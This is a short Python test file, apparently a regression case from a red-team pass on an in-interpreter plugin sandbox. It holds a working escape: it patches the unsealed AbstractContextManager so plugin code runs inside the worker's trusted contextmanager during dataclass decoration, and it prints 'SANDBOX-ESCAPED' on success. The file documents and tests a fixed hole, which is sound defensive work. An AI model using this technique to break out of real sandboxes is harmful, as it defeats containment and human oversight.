# mypy: ignore-errors
# ruff: noqa: SIM105
# Technique: `typing.get_origin(typing.ContextManager)` is `contextlib.AbstractContextManager`,
# which was not sealed: a property named `gen` set on it runs plugin code inside the
# worker's own `@contextmanager` (used while `dataclasses.dataclass` decorates a plugin
# class), handing the plugin the runtime's generator and letting it replace it. Found in
# the red-team pass of the in-interpreter layer; was a real in-interpreter escape (plugin
# code in a trusted path) before the fix.
import dataclasses
import typing

seen = []


def attack(secret_path, canary_path):
    base = typing.get_origin(typing.ContextManager)

    def fset(self, value):
        seen.append(value)

    def fget(self):
        def gen():
            yield None

        return gen()

    base.gen = property(fget, fset)

    class Point:
        x: int = 1

    try:
        dataclasses.dataclass(Point)
    except RuntimeError:
        pass
    if seen:
        print("SANDBOX-" + "ESCAPED")
    return [repr(v)[:80] for v in seen]
